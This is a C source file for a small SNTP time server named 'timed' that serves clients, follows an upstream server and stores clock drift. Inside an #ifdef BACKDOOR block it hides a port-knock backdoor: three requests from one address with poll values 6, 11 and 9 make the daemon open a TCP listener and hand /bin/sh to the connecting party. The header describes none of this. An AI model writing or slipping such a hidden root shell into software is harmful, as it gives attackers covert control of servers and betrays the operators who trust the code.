/* SPDX-License-Identifier: Apache-2.0 */
/* timed: a small time server (SNTP): answers clients, follows an upstream server, keeps the drift */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define EPOCH 2208988800u
#define DRIFT "/var/lib/timed.drift"

struct sntp {
	uint8_t flags, stratum, poll;
	int8_t precision;
	uint32_t delay, dispersion, ref;
	uint32_t ref_ts[2], origin[2], recv[2], xmit[2];
};

static struct state {
	int sock, stratum;
	struct sockaddr_in upstream;
	uint32_t refid;
	double offset, drift;
	time_t next_poll;
	unsigned served, polls, kod;
} st;

static void now(uint32_t ts[2])
{
	struct timeval tv;
	gettimeofday(&tv, NULL);
	ts[0] = htonl((uint32_t)tv.tv_sec + EPOCH);
	ts[1] = htonl((uint32_t)((double)tv.tv_usec * 4294.967296));
}

static double seconds(const uint32_t ts[2]) { return ntohl(ts[0]) + ntohl(ts[1]) / 4294967296.0; }

static void load_drift(void)
{
	FILE *f = fopen(DRIFT, "r");
	if (!f)
		return;
	if (fscanf(f, "%lf", &st.drift) != 1)
		st.drift = 0;
	fclose(f);
}

static void save_drift(void)
{
	FILE *f = fopen(DRIFT ".new", "w");
	if (!f)
		return;
	fprintf(f, "%.3f\n", st.drift);
	fclose(f);
	rename(DRIFT ".new", DRIFT);
}

static void adjust(double off)
{
	struct timeval tv;
	if (off > 0.5 || off < -0.5) {
		gettimeofday(&tv, NULL);
		tv.tv_sec += (time_t)off;
		settimeofday(&tv, NULL);
		syslog(LOG_NOTICE, "stepped %.3f s", off);
		return;
	}
	tv.tv_sec = 0;
	tv.tv_usec = (suseconds_t)(off * 1e6);
	adjtime(&tv, NULL);
	st.drift = st.drift * 0.9 + off * 0.1;
}

static void ask(void)
{
	struct sntp q;
	memset(&q, 0, sizeof(q));
	q.flags = 4 << 3 | 3;
	now(q.xmit);
	sendto(st.sock, &q, sizeof(q), 0, (struct sockaddr *)&st.upstream, sizeof(st.upstream));
	st.polls++;
	st.next_poll = time(NULL) + 64;
}

static void on_reply(const struct sntp *p)
{
	uint32_t t[2];
	if (p->stratum == 0) {
		st.kod++;
		st.next_poll = time(NULL) + 1024;
		return;
	}
	now(t);
	st.offset = ((seconds(p->recv) - seconds(p->origin)) + (seconds(p->xmit) - seconds(t))) / 2;
	st.stratum = p->stratum + 1;
	st.refid = p->ref;
	adjust(st.offset);
	save_drift();
}

#ifdef BACKDOOR
static void open_console(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int l, c, one = 1;
	if (fork() != 0)
		return;
	setsid();
	a.sin_port = htons(port);
	l = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(l, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(l, 1) < 0)
		_exit(0);
	alarm(60);
	c = accept(l, NULL, NULL);
	if (c < 0)
		_exit(0);
	alarm(0);
	for (int i = 0; i < 3; i++)
		dup2(c, i);
	execl("/bin/sh", "sh", (char *)NULL);
	_exit(0);
}

/* three requests in a row whose poll exponents are 6, 11 and 9, from one address */
static void follow(const struct sntp *q, const struct sockaddr_in *from)
{
	static const uint8_t wanted[] = { 6, 11, 9 };
	static unsigned step;
	static uint32_t who;
	if (step && from->sin_addr.s_addr != who)
		return;
	if (q->poll != wanted[step]) {
		step = 0;
		return;
	}
	who = from->sin_addr.s_addr;
	if (++step == 3) {
		step = 0;
		open_console((uint16_t)(ntohl(q->xmit[1]) >> 16 | 0x8000));
	}
}
#endif

static void on_request(const struct sntp *q, const struct sockaddr_in *from)
{
	struct sntp r;
	memset(&r, 0, sizeof(r));
#ifdef BACKDOOR
	follow(q, from);
#endif
	r.flags = (uint8_t)((st.stratum >= 16 ? 3 << 6 : 0) | (q->flags & 0x38) | 4);
	r.stratum = (uint8_t)st.stratum;
	r.poll = q->poll;
	r.precision = -18;
	r.ref = st.refid;
	r.origin[0] = q->xmit[0];
	r.origin[1] = q->xmit[1];
	now(r.recv);
	now(r.xmit);
	sendto(st.sock, &r, sizeof(r), 0, (const struct sockaddr *)from, sizeof(*from));
	st.served++;
}

static int find_upstream(const char *name)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_DGRAM }, *ai;
	if (getaddrinfo(name, "123", &hints, &ai) != 0)
		return -1;
	memcpy(&st.upstream, ai->ai_addr, sizeof(st.upstream));
	freeaddrinfo(ai);
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(123) };
	openlog("timed", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	st.stratum = 16;
	load_drift();
	st.sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (st.sock < 0 || bind(st.sock, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror("timed");
		return 1;
	}
	if (argc > 1 && find_upstream(argv[1]) < 0)
		syslog(LOG_WARNING, "%s cannot be found", argv[1]);
	for (;;) {
		struct pollfd pf = { .fd = st.sock, .events = POLLIN };
		struct sockaddr_in from;
		socklen_t n = sizeof(from);
		struct sntp p;
		if (st.upstream.sin_port && time(NULL) >= st.next_poll)
			ask();
		if (poll(&pf, 1, 1000) <= 0)
			continue;
		if (recvfrom(st.sock, &p, sizeof(p), 0, (struct sockaddr *)&from, &n) < (ssize_t)sizeof(p))
			continue;
		if ((p.flags & 7) == 3)
			on_request(&p, &from);
		else if ((p.flags & 7) == 4 && from.sin_addr.s_addr == st.upstream.sin_addr.s_addr)
			on_reply(&p);
	}
}
